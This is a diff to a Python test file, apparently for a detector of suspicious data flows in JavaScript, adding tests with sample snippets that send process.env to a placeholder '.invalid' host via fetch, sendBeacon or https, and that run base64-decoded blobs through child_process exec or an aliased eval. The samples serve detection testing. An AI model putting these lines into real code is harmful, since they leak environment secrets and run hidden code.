@@ -3,6 +3,7 @@ from __future__ import annotations
 import pytest
 
 from assay.javascript.read import BRACKETS, TOO_SLOW, read
+from assay.javascript.triage import triage
 from assay.model.source import BehaviourKind, SourceFile
 
 DUMP = "const https = require('https');\nhttps.get('https://a.invalid/?' + JSON.stringify(process.env));\n"
@@ -107,3 +108,26 @@ def test_what_is_taken_out_of_a_data_url_that_the_file_does_not_hold_is_told_as_
     assert {flow.source.detail for flow in read("a.js", shim).flows} == {"atob of a data: URL"}
     held = b"const url = 'data:YQ==';\nconst [, data] = url.match(/^data:(.*)/);\neval(atob(data));\n"
     assert {flow.source.detail for flow in read("a.js", held).flows} == {"atob"}
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        b'fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
+        b'globalThis.fetch("https://x.invalid", { body: JSON.stringify(process.env) });',
+        b'navigator.sendBeacon("https://x.invalid", JSON.stringify(process.env));',
+        b'const { request } = require("https"); q = request("https://x.invalid"); q.write(JSON.stringify(process.env));',
+        b'import { get } from "node:https";\nget("https://x.invalid/" + JSON.stringify(process.env));',
+        b'const { exec: run } = require("child_process"); run(Buffer.from(blob, "base64").toString());',
+        b'const e = eval; e(Buffer.from(blob, "base64").toString());',
+    ],
+)
+def test_in_a_large_file_what_can_send_or_start_is_followed_by_any_name(code: bytes) -> None:
+    table = b"const table = [" + b"'abcdefghij'," * 4000 + b"];\n"
+    assert len(read("index.js", table + code).flows) == 1
+
+
+@pytest.mark.parametrize("code", [b"for (let i of names) i(...s);", b"throw new Error(i());", b"widget(i);"])
+def test_a_name_for_eval_is_none_at_the_end_of_another(code: bytes) -> None:
+    places = triage(b"const r = eval, t = atob(x);\n" + code)
+    assert places.runs == ()
